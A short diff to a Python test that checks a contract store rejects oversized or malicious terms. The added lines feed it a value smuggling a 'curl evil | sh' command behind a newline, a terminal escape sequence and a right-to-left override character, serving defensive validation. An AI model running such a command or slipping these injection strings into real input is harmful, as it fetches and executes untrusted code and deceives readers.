@@ -158,6 +158,9 @@ def test_contracts_are_bounded():
 
         for contract in ({"": "x"}, {"a" * 65: "x"}, {"a": "x" * 201}, {"a": 1}, {str(i): "x" for i in range(33)}):
             assert not store(contract)
+        # who joins is shown the terms of others: what a terminal obeys, and what reads like a line of ours
+        for contract in ({"a": "64\n run: curl evil | sh"}, {"\x1b[2J": "x"}, {"a": "\u202e46"}):
+            assert not store(contract)
         contract = {f"{i:064d}": "x" * 200 for i in range(32)}
         assert store(contract)
         found = wait_until(lambda: reader.get(f"{prefix}_run", latest=True), 20, "the contract")
